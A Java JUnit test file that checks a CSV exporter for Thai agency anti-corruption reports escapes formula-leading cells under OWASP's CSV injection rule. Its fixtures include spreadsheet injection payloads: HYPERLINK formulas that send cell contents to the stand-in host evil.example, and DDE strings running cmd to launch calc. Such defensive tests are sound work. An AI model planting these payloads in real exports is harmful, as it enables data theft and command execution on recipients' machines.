package org.itaminer.index.export;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.itaminer.index.Agencies;
import org.itaminer.index.compare.ThemeMatrix;
import org.itaminer.index.compare.ThemeMatrixCsv;
import org.itaminer.index.theme.Theme;
import org.itaminer.model.report.AgencyType;
import org.itaminer.model.report.DocumentKind;
import org.itaminer.model.report.Report;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** OWASP's CSV Injection rule on the cells of measures as documents write them. */
class CsvCellsTest {

    @ParameterizedTest(name = "[{index}] {0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
        // the cell as the document has it | as the CSV writes it
        "`=HYPERLINK(\"http://evil.example/?d=\"&A1,\"คลิกเพื่อดูรายละเอียด\")`"
                + " | `'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"คลิกเพื่อดูรายละเอียด\")`",
        "`=cmd|' /C calc'!A0` | `'=cmd|' /C calc'!A0`",
        "`@SUM(1+1)*cmd|' /C calc'!A0` | `'@SUM(1+1)*cmd|' /C calc'!A0`",
        "`+66 2141 1234 สายด่วนร้องเรียน` | `'+66 2141 1234 สายด่วนร้องเรียน`",
        // a Thai step written as a bullet: OWASP's rule as it stands, and it still reads as a bullet
        "`- ประชุมชี้แจงนโยบายไม่รับของขวัญ (No Gift Policy)` | `'- ประชุมชี้แจงนโยบายไม่รับของขวัญ (No Gift Policy)`",
        "`-ติดประกาศ ณ ที่ทำการ อบต.` | `'-ติดประกาศ ณ ที่ทำการ อบต.`",
        // ordinary Thai text, and the characters anywhere but first
        "`จัดทำคู่มือการปฏิบัติงาน` | `จัดทำคู่มือการปฏิบัติงาน`",
        "`ร้อยละ 80 = ผ่านเกณฑ์` | `ร้อยละ 80 = ผ่านเกณฑ์`",
        "`ไตรมาสที่ ๑-๒` | `ไตรมาสที่ ๑-๒`",
        "`'ข้อความที่มีอัญประกาศอยู่แล้ว` | `'ข้อความที่มีอัญประกาศอยู่แล้ว`",
        "`` | ``"})
    void aCellThatAFormulaWouldStartIsQuoted(String cell, String written) {
        assertEquals(written, CsvCells.text(cell));
    }

    @Test
    void tabAndCarriageReturnFirstAreQuotedToo() {
        assertEquals("'\tแบบรายงานผล", CsvCells.text("\tแบบรายงานผล"));
        assertEquals("'\r=1+1", CsvCells.text("\r=1+1"));
    }

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/steal\",\"ดาวน์โหลดแบบฟอร์มร้องเรียน\")";

    @Test
    void theMeasureCsvNeutralisesTitlesAndStepsButNotNumbers() throws IOException {
        Report r = Agencies.report("aa11bb22cc33", Agencies.MAESAI, DocumentKind.PLAN, 2568,
                Agencies.m(1, HYPERLINK, "- ประชุมชี้แจงเจ้าหน้าที่", "- ติดประกาศช่องทางร้องเรียน"));
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        CsvExport.write(List.of(r), bytes);
        List<CSVRecord> rows = read(bytes);
        assertEquals(1, rows.size());
        assertEquals("'" + HYPERLINK, rows.get(0).get("measure_title"));
        assertEquals("'- ประชุมชี้แจงเจ้าหน้าที่\n- ติดประกาศช่องทางร้องเรียน", rows.get(0).get("steps"));
        assertEquals("1", rows.get(0).get("seq"));
        assertEquals("2568", rows.get(0).get("fiscal_year"));
    }

    @Test
    void theCompareCsvNeutralisesAgencyNames() throws IOException {
        ThemeMatrix matrix = new ThemeMatrix(List.of(Theme.values()), List.of(new ThemeMatrix.Row(
                "=HYPERLINK(\"http://evil.example\",\"อบต.ห้วยทรายงาม\")", AgencyType.SAO, "-", "ลำปาง", 2568,
                List.of("plan"), 1, 2, java.util.Map.of())));
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        ThemeMatrixCsv.write(matrix, bytes);
        CSVRecord row = read(bytes).get(0);
        assertEquals("'=HYPERLINK(\"http://evil.example\",\"อบต.ห้วยทรายงาม\")", row.get("agency_name"));
        assertEquals("'-", row.get("district"));
        assertEquals("ลำปาง", row.get("province"));
        assertEquals("2", row.get("measures"));
    }

    private static List<CSVRecord> read(ByteArrayOutputStream bytes) throws IOException {
        String text = bytes.toString(StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(new StringReader(text),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            return parser.getRecords();
        }
    }
}
